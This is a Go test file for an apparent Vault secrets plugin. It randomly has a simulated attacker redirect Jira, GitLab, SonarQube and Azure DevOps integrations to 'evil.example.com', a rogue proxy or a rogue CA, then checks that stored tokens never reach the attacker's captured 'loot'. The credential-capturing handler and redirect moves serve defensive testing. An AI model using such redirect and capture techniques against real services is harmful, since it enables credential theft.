package sei

import (
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/http/httputil"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hashicorp/vault/sdk/logical"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vault-plugin-secrets-sei/providers/azuredevops/azuredevopstest"
	"vault-plugin-secrets-sei/providers/catalog/catalogtest"
	"vault-plugin-secrets-sei/providers/providertest"
)

// evilURL is a host of the attacker, which the mount allows.
const evilURL = "https://evil.example.com"

// thief records what is sent to hosts that the attacker controls. They forward it to
// the true upstream, so that what is sent there works.
type thief struct {
	mu    sync.Mutex
	calls int
	loot  strings.Builder
}

func (f *thief) before(upstream http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sent, _ := httputil.DumpRequest(r, true)
		user, password, _ := r.BasicAuth()
		f.mu.Lock()
		f.calls++
		_, _ = fmt.Fprintf(&f.loot, "%s\n%s\n%s\n", sent, user, password)
		f.mu.Unlock()
		upstream.ServeHTTP(w, r)
	})
}

func (f *thief) seen() (calls int, loot string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.calls, f.loot.String()
}

// victim is an integration that somebody configures who must not get its credential.
type victim struct {
	fake     func(*catalogtest.World) http.Handler
	host     string // of the true upstream
	settings body
	// elsewhere are writes that would send the credential to the attacker, beside those
	// that any integration has.
	elsewhere []body
	// add makes the upstream know a new credential, and returns it.
	add func(w *catalogtest.World, serial int, owner string) (credential body, secret string)
}

func victims() map[string]victim {
	return map[string]victim{
		"jira": {
			fake: func(w *catalogtest.World) http.Handler { return w.JiraDataCenter }, host: "jira.example.com",
			settings: body{"provider": "jira", "auth_type": "pat", "url": catalogtest.JiraDataCenterURL}, elsewhere: []body{{"url": evilURL + "/jira"}},
			add: func(w *catalogtest.World, n int, owner string) (body, string) {
				secret := fmt.Sprintf("%s-pat-of-jira-%d", owner, n)
				w.JiraDataCenter.AddPAT(owner, secret)
				return body{"pat": secret}, secret
			},
		},
		"gitlab": {
			fake: func(w *catalogtest.World) http.Handler { return w.GitLabOwn }, host: "gitlab.example.com",
			settings: body{"provider": "gitlab", "url": catalogtest.GitLabOwnURL}, elsewhere: []body{{"url": evilURL + "/gitlab"}},
			add: func(w *catalogtest.World, n int, owner string) (body, string) {
				secret := fmt.Sprintf("glpat-of-%s-%d", owner, n)
				w.GitLabOwn.AddToken(owner, secret, "api")
				return body{"pat": secret}, secret
			},
		},
		"sonarqube": {
			fake: func(w *catalogtest.World) http.Handler { return w.SonarQube }, host: "sonarqube.example.com",
			settings: body{"provider": "sonarqube", "url": catalogtest.SonarQubeURL}, elsewhere: []body{{"url": evilURL + "/sonar"}},
			add: func(w *catalogtest.World, n int, owner string) (body, string) {
				secret := fmt.Sprintf("squ-of-%s-%d", owner, n)
				w.SonarQube.AddToken(owner, secret)
				return body{"username": owner, "api_key": secret}, secret
			},
		},
		"azure devops": {
			fake: func(w *catalogtest.World) http.Handler { return w.AzureDevOpsServer }, host: "devops.example.com",
			settings:  body{"provider": "azure_devops", "auth_type": "pat", "url": catalogtest.AzureDevOpsServerURL, "organization": "acme", "service": "boards"},
			elsewhere: []body{{"url": evilURL + "/tfs"}, {"organization": "other"}},
			add: func(w *catalogtest.World, n int, owner string) (body, string) {
				secret := fmt.Sprintf("ado-of-%s-%d", owner, n)
				w.AzureDevOpsServer.AddOrganization(azuredevopstest.AzureOrganization{Name: "acme", Projects: []azuredevopstest.AzureProject{{Name: "Web"}}})
				w.AzureDevOpsServer.AddPAT("acme", owner+"@example.com", secret)
				return body{"email": owner + "@example.com", "pat": secret}, secret
			},
		},
	}
}

// heist is a mount on which an attacker may configure, forget, rotate, roll back and
// have checked, and send credentials of their own, while a person re-authenticates only
// what leads to the true upstream, and a worker reads.
type heist struct {
	*oauthMount
	victim
	thief  *thief
	wires  body   // what reaches the true upstream
	moves  []body // what would lead elsewhere
	random *rand.Rand
	serial int
	// secrets are the person's, and what the upstream made of them.
	secrets []string
	refused int
}

func newHeist(t *testing.T, v victim, seed uint64) *heist {
	t.Helper()
	h := &heist{oauthMount: newWorldMount(t), victim: v, thief: &thief{}, random: rand.New(rand.NewPCG(seed, 0))}
	h.world.Handle("evil.example.com", h.thief.before(v.fake(h.world)))
	between := providertest.NewInternet() // a proxy with an authority of the attacker's
	t.Cleanup(between.Close)
	between.Handle(v.host, h.thief.before(v.fake(h.world)))
	h.wires = body{"proxy_url": h.world.ProxyURL(), "ca_cert": h.world.CAPEM(), "tls_server_name": ""}
	proxied := body{"proxy_url": between.ProxyURL(), "ca_cert": between.CAPEM()}
	h.moves = append(slices.Clone(v.elsewhere), proxied, proxied, proxied, // the one that works, so more often
		body{"proxy_url": between.ProxyURL()}, body{"ca_cert": between.CAPEM()}, body{"tls_server_name": "evil.example.com"})
	h.write(t, "config", body{"allowed_hosts": append(h.world.AllowedHosts(), "evil.example.com", between.ProxyURL())})
	return h
}

// try does what may be refused, and counts if it is.
func (h *heist) try(t *testing.T, op logical.Operation, path string, data body) {
	t.Helper()
	r := h.do(t, op, path, data)
	require.NotEqual(t, http.StatusInternalServerError, r.status, r.message)
	if r.status != 0 {
		h.refused++
	}
}

// legitimate reports whether everything leads to the true upstream, as a person sees
// who looks at the configuration first.
func (h *heist) legitimate(t *testing.T, name string) bool {
	t.Helper()
	r := h.do(t, logical.ReadOperation, "integrations/"+name, nil)
	if r.status != 0 {
		return false
	}
	for field, want := range h.wires {
		if r.data[field] != want {
			return false
		}
	}
	return r.data["url"] == h.settings["url"] && (h.settings["organization"] == nil || r.data["organization"] == h.settings["organization"])
}

func (h *heist) step(t *testing.T, name string) {
	t.Helper()
	move := h.moves[h.random.IntN(len(h.moves))]
	switch h.random.IntN(12) {
	case 0:
		h.try(t, logical.DeleteOperation, "creds/"+name, nil)
		h.sendElsewhere(t, name, move)
	case 1:
		h.try(t, logical.DeleteOperation, "integrations/"+name, nil)
		h.sendElsewhere(t, name, merged(h.settings, h.wires, move))
	case 2, 3:
		h.sendElsewhere(t, name, move)
	case 4, 5:
		h.try(t, logical.UpdateOperation, "integrations/"+name, merged(h.settings, h.wires))
	case 6:
		h.try(t, logical.UpdateOperation, "rotate/"+name, nil)
	case 7:
		h.try(t, logical.UpdateOperation, "rollback/"+name, nil)
	case 8:
		h.pass(time.Duration(h.random.IntN(30)) * time.Hour)
		for _, each := range h.names() {
			_, _ = h.store.Rotations.Resume(t.Context(), each)
			_ = h.store.Swaps.Erase(t.Context(), each)
		}
	default:
		h.reauthenticate(t, name)
	}
}

// sendElsewhere changes where the credential goes and has it sent there in every way
// there is.
func (h *heist) sendElsewhere(t *testing.T, name string, move body) {
	t.Helper()
	h.try(t, logical.UpdateOperation, "integrations/"+name, move)
	for _, path := range []string{"rollback/", "health/", "rotate/"} {
		h.try(t, logical.UpdateOperation, path+name, nil)
	}
}

// names are an integration and one that may share its credential.
func (h *heist) names() []string { return []string{"victim", "sibling"} }

// reauthenticate is done by the person, or where a person would not, by the attacker.
func (h *heist) reauthenticate(t *testing.T, name string) {
	t.Helper()
	owner := "mallory"
	if h.legitimate(t, name) {
		owner = "mia"
	}
	h.serial++
	credential, secret := h.add(h.world, h.serial, owner)
	if owner == "mia" {
		h.secrets = append(h.secrets, secret)
	}
	h.try(t, logical.UpdateOperation, "reauth/"+name, credential)
}

// learn notes what a worker gets of the person's.
func (h *heist) learn(t *testing.T) {
	t.Helper()
	for _, name := range h.names() {
		if !h.legitimate(t, name) {
			continue
		}
		creds := h.do(t, logical.ReadOperation, "creds/"+name, nil).data
		for _, field := range []string{"pat", "api_key"} {
			if secret, _ := creds[field].(string); secret != "" && !strings.Contains(secret, "mallory") && !slices.Contains(h.secrets, secret) {
				h.secrets = append(h.secrets, secret)
			}
		}
	}
}

func merged(all ...body) body {
	sum := body{}
	for _, each := range all {
		for name, value := range each {
			sum[name] = value
		}
	}
	return sum
}

// Who may configure, forget, rotate, roll back and have checked does not get a stored
// credential sent to a host, a proxy or an authority of their own, in whatever order.
func TestWhoConfiguresGetsNoStoredCredential(t *testing.T) {
	for name, v := range victims() {
		t.Run(name, func(t *testing.T) {
			calls, secrets, refused := 0, 0, 0
			for seed := range uint64(4) {
				h := newHeist(t, v, seed)
				for range 100 {
					h.step(t, h.names()[h.random.IntN(2)])
					h.learn(t)
				}
				called, loot := h.thief.seen()
				for _, secret := range h.secrets {
					stolen := strings.Contains(loot, secret) // NotContains would print all
					assert.False(t, stolen, "seed %d: the attacker has %q", seed, secret)
				}
				calls, secrets, refused = calls+called, secrets+len(h.secrets), refused+h.refused
			}
			t.Logf("%d credentials, %d requests at the attacker's hosts, %d refusals", secrets, calls, refused)
			assert.Greater(t, secrets, 12, "too few credentials to steal")
			assert.Greater(t, calls, 12, "the attacker's hosts are hardly called, and prove nothing")
			assert.Greater(t, refused, 80)
		})
	}
}
